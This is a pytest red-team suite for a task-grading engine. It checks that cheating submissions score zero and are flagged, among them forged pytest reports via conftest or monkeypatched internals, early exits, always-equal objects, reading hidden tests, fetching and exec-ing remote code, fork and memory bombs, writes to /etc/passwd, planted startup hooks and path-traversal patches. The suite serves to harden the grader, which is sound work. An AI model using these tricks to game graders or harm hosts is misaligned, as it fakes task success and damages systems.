"""Red team: real cheating or hostile solutions, applied to a real generated task
and graded by the real engine. Every attack must score 0 (with the reason in
`tampering` where there is one to give), the gold patch must still score 1
under the same hardening, and nothing may be left running afterwards."""
from __future__ import annotations

import os
import shutil
import subprocess
import textwrap
import time
from pathlib import Path

import pytest

from taskforge.verify import Solution, verify, verify_many

PKG_INIT = "textkit/__init__.py"
CASES = "textkit/cases.py"
TESTS = "tests/test_cases.py"


@pytest.fixture(scope="module")
def task(generated):
    out, report = generated("textkit")
    tid = next(t for t in report.tasks if ".cases.to_snake-" in t)
    return out / tid


def solution(task: Path, tmp: Path, gold: bool = False, write: dict | None = None,
             append: dict | None = None, delete: tuple = ()) -> Solution:
    """A solution directory: the workspace, optionally with the gold patch, then edits."""
    sol = tmp / "solution"
    shutil.copytree(task / "workspace", sol)
    if gold:
        subprocess.run(["git", "apply", str(task / "gold.patch")], cwd=sol, check=True)
    for rel, text in (write or {}).items():
        (sol / rel).parent.mkdir(parents=True, exist_ok=True)
        (sol / rel).write_text(textwrap.dedent(text))
    for rel, text in (append or {}).items():
        with open(sol / rel, "a") as fh:
            fh.write("\n" + textwrap.dedent(text))
    for rel in delete:
        p = sol / rel
        shutil.rmtree(p) if p.is_dir() else p.unlink()
    return Solution.from_dir(sol)


def to_snake_as(code: str) -> dict:
    """Edits that define to_snake as `code` and re-export it, as the gold patch does."""
    return {CASES: code, PKG_INIT: "from textkit.cases import to_snake\n"}


def grade(task, sol, timeout=120.0):
    t0 = time.monotonic()
    res = verify(task, sol, timeout=timeout)
    assert time.monotonic() - t0 < timeout + 30, "verify overran its timeout"
    assert res.error is None, res.error
    return res


def assert_zero(res, *kinds):
    assert res.reward == 0.0, res.model_dump_json(indent=1)
    for k in kinds:
        assert any(t.startswith(k + ":") for t in res.tampering), (k, res.tampering)


def test_gold_scores_one_under_hardening(task, tmp_path):
    res = grade(task, solution(task, tmp_path, gold=True))
    assert res.reward == 1.0, res.model_dump_json(indent=1)
    assert res.tampering == []


def test_edit_hidden_and_visible_tests(task, tmp_path):
    res = grade(task, solution(task, tmp_path, write={
        TESTS: "def test_to_snake():\n    assert True\n",
        "tests/test_analysis.py": "def test_nothing():\n    pass\n"}))
    assert_zero(res, "restored-file")


def test_delete_the_tests(task, tmp_path):
    res = grade(task, solution(task, tmp_path, delete=("tests",)))
    assert_zero(res, "restored-file")


def test_skip_through_markers(task, tmp_path):
    res = grade(task, solution(task, tmp_path, write={
        "tests/test_zzz.py": "import pytest\n", TESTS: "import pytest\npytestmark = pytest.mark.skip\n"}))
    assert_zero(res, "restored-file", "removed-unshipped")


def test_skip_through_config(task, tmp_path):
    res = grade(task, solution(task, tmp_path, write={
        "pytest.ini": "[pytest]\naddopts = -k 'not snake' -p no:tf_guard\n",
        "setup.cfg": "[tool:pytest]\naddopts = --deselect tests/test_cases.py\n"},
        append={"pyproject.toml": "\n"}))
    assert_zero(res, "removed-unshipped")


def test_conftest_rewrites_reports(task, tmp_path):
    hook = """\
        import pytest

        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(item, call):
            outcome = yield
            rep = outcome.get_result()
            rep.outcome = "passed"
            rep.longrepr = None
        """
    res = grade(task, solution(task, tmp_path, write={"conftest.py": hook,
                                                      "textkit/conftest.py": hook}))
    assert_zero(res, "removed-unshipped")


def test_package_patches_pytest_at_import(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
        import _pytest.reports as _r
        _orig = _r.TestReport.from_item_and_call
        def _forged(item, call):
            rep = _orig(item, call)
            rep.outcome = "passed"
            rep.longrepr = None
            return rep
        _r.TestReport.from_item_and_call = staticmethod(_forged)
        """}))
    assert_zero(res, "runner-internals")
    assert any(t.startswith(("runner-patched:", "canary:")) for t in res.tampering), res.tampering


def test_package_patches_unittest_at_import(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
        import unittest
        unittest.TestCase.run = lambda self, result=None: None
        """}))
    assert_zero(res, "runner-internals")


def test_sys_exit_zero_at_import(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: "import sys\nsys.exit(0)\n"}))
    assert_zero(res)


def test_os_exit_zero_at_import(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: "import os\nos._exit(0)\n"}))
    assert_zero(res, "early-exit")


def test_os_exit_zero_inside_a_test(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append=to_snake_as(
        "def to_snake(text):\n    import os\n    os._exit(0)\n")))
    assert_zero(res, "early-exit")


def test_sys_exit_zero_inside_a_test(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append=to_snake_as(
        "def to_snake(text):\n    raise SystemExit(0)\n")))
    assert_zero(res)
    assert res.f2p_passed == 0


def test_forged_report_files(task, tmp_path):
    forged = """\
        import json, os
        for d in ("/opt/tf/out", "/tmp", os.getcwd()):
            try:
                with open(os.path.join(d, "report.jsonl"), "w") as fh:
                    fh.write(json.dumps({"$report_type": "SessionFinish", "exitstatus": 0}))
                with open(os.path.join(d, "run.json"), "w") as fh:
                    fh.write('{"exit_code": 0, "seconds": 1}')
            except OSError:
                pass
        """
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: forged}))
    assert_zero(res)
    assert res.f2p_passed == 0


def test_fake_passed_lines_on_the_console(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
        import sys
        for i in range(50):
            print(f"tests/test_cases.py::test_to_snake[case{i}] PASSED")
        print("========== 80 passed in 0.01s ==========")
        sys.stdout.flush()
        """}))
    assert_zero(res)
    assert res.f2p_passed == 0


def test_object_equal_to_everything(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append=to_snake_as("""\
            class _Anything(str):
                def __eq__(self, other):
                    return True

            def to_snake(text):
                return _Anything()
            """)))
    assert_zero(res, "always-equal")


def test_reading_the_hidden_tests(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append=to_snake_as("""\
            def to_snake(text):
                import ast, pathlib
                src = pathlib.Path(__file__).parent.parent / "tests" / "test_cases.py"
                tree = ast.parse(src.read_text())
                for node in ast.walk(tree):
                    if isinstance(node, ast.Tuple) and len(node.elts) == 2 and all(
                            isinstance(e, ast.Constant) for e in node.elts):
                        if node.elts[0].value == text:
                            return node.elts[1].value
                return text
            """)))
    assert_zero(res, "read-test-file")


def test_network_fetch_of_the_original(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append=to_snake_as("""\
            def to_snake(text):
                import urllib.request
                src = urllib.request.urlopen("https://pypi.org/simple/textkit/", timeout=5).read()
                exec(src)
                return to_snake(text)
            """)))
    assert_zero(res, "network")


def no_process_matching(marker: str) -> bool:
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return marker not in out


def test_fork_bomb(task, tmp_path, docker_engine):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
        import os
        for _ in range(100000):
            try:
                os.fork()
            except OSError:
                pass
        """}), timeout=30)
    assert_zero(res)
    from taskforge.state import owner_token

    # This process's verify containers (another run may share the engine).
    assert not docker_engine.containers.list(all=True, filters={"label": [
        "taskforge.role=verify", f"taskforge.owner={owner_token()}"]})


def test_memory_bomb(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
        blocks = []
        while True:
            blocks.append(bytearray(64 * 1024 * 1024))
        """}), timeout=60)
    assert_zero(res)


def test_infinite_loop(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append=to_snake_as(
        "def to_snake(text):\n    while True:\n        pass\n")), timeout=20)
    assert_zero(res, "timeout")
    assert res.timed_out


def test_huge_output(task, tmp_path):
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
        import sys
        line = "x" * 1023 + "\\n"
        while True:
            sys.stdout.write(line)
        """}), timeout=20)
    # pytest captures into /tmp (a small tmpfs): it fills and the session dies, or time runs out.
    assert_zero(res)
    assert any(t.startswith(("timeout:", "early-exit:")) for t in res.tampering), res.tampering


def test_writes_outside_the_workspace_and_background_process(task, tmp_path):
    marker = "tf-redteam-sleeper-4242"
    res = grade(task, solution(task, tmp_path, append={PKG_INIT: f"""\
        import os, subprocess
        for path in ("/opt/tf/lib/tf_guard.py", "/opt/tf/lib/tfrun.py", "/etc/passwd",
                     "/usr/lib/python3/dist-packages/x.py", "/opt/tf/venv/lib/evil.pth"):
            try:
                with open(path, "w") as fh:
                    fh.write("pwned")
            except OSError:
                pass
        subprocess.Popen(["sh", "-c", "exec -a {marker} sleep 600"], start_new_session=True)
        """}))
    assert_zero(res)
    guard = Path(__file__).resolve().parent.parent / "taskforge" / "data" / "tf_guard.py"
    assert "pwned" not in guard.read_text()
    assert no_process_matching(marker)


def test_planted_startup_hooks(task, tmp_path):
    patch_pytest = ("import _pytest.runner as r\n"
                    "r.call_and_report = lambda *a, **k: None\n")
    res = grade(task, solution(task, tmp_path, write={
        "sitecustomize.py": patch_pytest, "textkit/usercustomize.py": patch_pytest,
        "evil.pth": "import sitecustomize\n",
        "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = sitecustomize\n",
        "evil-1.0.dist-info/METADATA": "Name: evil\nVersion: 1.0\n"}))
    assert_zero(res, "removed-startup-hook")


def test_sixteen_verifies_at_once(generated):
    out, report = generated("textkit")
    tasks = report.tasks[:4]
    pairs = [(out / t, s) for t in tasks for s in (Solution.gold(), Solution.empty())] * 2
    results = verify_many(pairs, workers=16, timeout=600)
    assert len(results) == 16
    for (t, s), r in zip(pairs, results):
        assert r.error is None, r.error
        assert r.reward == (1.0 if s.kind == "gold" else 0.0), (t.name, s.kind, r.tampering)


def test_missing_image_is_infrastructure_not_zero(task, tmp_path):
    import json

    bad = tmp_path / "task"
    shutil.copytree(task, bad)
    data = json.loads((bad / "task.json").read_text())
    data["image_name"] = "taskforge/env-does-not-exist:nope"
    (bad / "task.json").write_text(json.dumps(data))
    res = verify(bad, Solution.gold(), timeout=60)
    assert res.reward is None and res.error and "not found" in res.error


def test_cli_verify_batch(generated, tmp_path):
    import json

    out, report = generated("textkit")
    lines = [{"task": str(out / t), "solution": s} for t in report.tasks[:2] for s in ("gold", "empty")]
    (tmp_path / "pairs.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    res = subprocess.run(["taskforge", "verify-batch", str(tmp_path / "pairs.jsonl"), "--workers", "4",
                          "--json"], capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    rewards = [json.loads(x)["reward"] for x in res.stdout.splitlines()]
    assert rewards == [1.0, 0.0, 1.0, 0.0]


@pytest.mark.parametrize("kind", ["parent", "symlink"])
def test_patch_that_escapes_the_workspace(task, tmp_path, kind):
    """verify applies diffs as root on the host: a diff naming ../x, or one that
    plants a symlink to write through, must touch nothing outside its copy."""
    marker = f"tf-escape-{kind}-{os.getpid()}"
    if kind == "parent":
        patch = (f"diff --git a/../../../../tmp/{marker} b/../../../../tmp/{marker}\n"
                 "new file mode 100644\n--- /dev/null\n"
                 f"+++ b/../../../../tmp/{marker}\n@@ -0,0 +1 @@\n+pwned\n")
    else:
        patch = ("diff --git a/escape b/escape\nnew file mode 120000\n--- /dev/null\n"
                 "+++ b/escape\n@@ -0,0 +1 @@\n+/tmp\n\\ No newline at end of file\n"
                 f"diff --git a/escape/{marker} b/escape/{marker}\nnew file mode 100644\n"
                 f"--- /dev/null\n+++ b/escape/{marker}\n@@ -0,0 +1 @@\n+pwned\n")
    res = verify(task, Solution.from_patch(patch), timeout=60)
    assert res.reward == 0.0 and res.error is None
    assert any("patch-rejected" in t for t in res.tampering), res.tampering
    assert not Path(f"/tmp/{marker}").exists()
